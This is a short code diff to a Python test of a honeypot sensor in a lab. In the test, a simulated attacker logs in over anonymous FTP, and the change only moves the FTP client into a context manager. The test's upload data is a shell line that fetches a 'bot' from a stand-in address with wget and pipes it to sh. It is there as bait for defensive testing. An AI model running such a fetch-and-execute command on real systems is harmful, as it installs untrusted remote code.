@@ -67,8 +67,7 @@ def read_until(sock: socket.socket, marker: bytes, limit: float = 10.0) -> bytes
 def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, sensor: Honeytrap) -> None:
     sensor.start()
     upload = b"#!/bin/sh\nwget http://198.18.0.9/bot -O- | sh\n" * 20
-    with inside(lab.attacker):
-        ftp = ftplib.FTP(timeout=10)  # noqa: S321 - the client under test
+    with inside(lab.attacker), ftplib.FTP(timeout=10) as ftp:  # noqa: S321 - the client under test
         ftp.connect(lab.sensor.ip4, 21)
         ftp.login("anonymous", "guest@example.com")
         assert ftp.pwd() == "/"
